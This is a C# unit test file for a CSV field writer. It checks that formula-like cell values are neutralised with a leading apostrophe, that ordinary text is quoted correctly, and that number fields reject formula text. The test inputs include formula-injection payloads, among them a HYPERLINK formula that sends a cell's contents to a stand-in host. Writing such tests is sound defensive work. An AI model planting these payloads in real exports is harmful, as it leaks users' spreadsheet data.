using OneWindow.Common.Formats;

namespace OneWindow.Common.Tests;

public sealed class CsvFieldTests
{
    [Theory]
    [InlineData("=HYPERLINK(\"http://x.example/?\"&A1)", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1)\"")]
    [InlineData("+86 138", "'+86 138")]
    [InlineData("-2+3", "'-2+3")]
    [InlineData("@SUM(A1:A9)", "'@SUM(A1:A9)")]
    [InlineData("\tcmd", "'\tcmd")]
    [InlineData("\r=1", "\"'\r=1\"")]
    public void Text_a_spreadsheet_would_run_as_a_formula_is_written_as_text(string value, string written) =>
        Assert.Equal(written, CsvField.Text(value));

    [Theory]
    [InlineData("张三", "张三")]
    [InlineData("账户已销户，退回", "账户已销户，退回")]
    [InlineData("a,b", "\"a,b\"")]
    [InlineData("说\"好\"", "\"说\"\"好\"\"\"")]
    [InlineData("", "")]
    [InlineData(null, "")]
    public void Ordinary_text_is_kept_and_quoted_only_when_it_holds_a_separator(string? value, string written) =>
        Assert.Equal(written, CsvField.Text(value));

    [Theory]
    [InlineData("150.00")]
    [InlineData("-150.00")]
    [InlineData("3")]
    public void A_number_we_formatted_is_written_as_a_number(string value) =>
        Assert.Equal(value, CsvField.Number(value));

    [Theory]
    [InlineData("-1+cmd")]
    [InlineData("=1")]
    [InlineData("")]
    public void Text_passed_as_a_number_is_refused(string value) =>
        Assert.Throws<ArgumentException>(() => CsvField.Number(value));

    [Fact]
    public void A_line_written_is_read_back_field_by_field() =>
        Assert.Equal(["D", "a,b", "说\"好\"", ""], CsvField.Split(CsvField.Line("D", CsvField.Text("a,b"), CsvField.Text("说\"好\""), string.Empty).TrimEnd()));
}
